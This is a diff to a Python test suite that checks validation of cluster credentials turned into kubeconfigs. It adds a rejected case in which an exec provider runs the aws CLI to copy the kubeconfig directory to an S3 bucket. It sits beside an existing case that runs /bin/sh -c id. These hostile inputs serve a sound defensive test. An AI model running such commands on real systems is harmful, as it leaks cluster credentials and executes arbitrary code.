@@ -180,6 +180,12 @@ def test_the_kinds_of_credentials_become_a_kubeconfig() -> None:
             {"execProviderConfig": {"command": "/bin/sh", "args": ["-c", "id"]}},
             "is not one of OME_ARGOCD_EXEC_COMMANDS",
         ),
+        # The aws CLI's arguments could copy the dashboard's files (kubeconfigs) anywhere:
+        # awsAuthConfig runs `aws eks get-token` itself; a Secret may not choose aws's arguments.
+        (
+            {"execProviderConfig": {"command": "aws", "args": ["s3", "cp", "/etc/ome/kubeconfigs", "s3://x"]}},
+            "config.execProviderConfig.command 'aws' is not one of OME_ARGOCD_EXEC_COMMANDS",
+        ),
         ({"tlsClientConfig": {"certData": "Q0VSVA=="}}, "certData and keyData go together"),
         ({"awsAuthConfig": {"roleARN": "arn:r"}}, "awsAuthConfig.clusterName is required"),
         ({"awsAuthConfig": {"clusterName": "p", "region": "x"}}, "config.awsAuthConfig.region is not supported"),
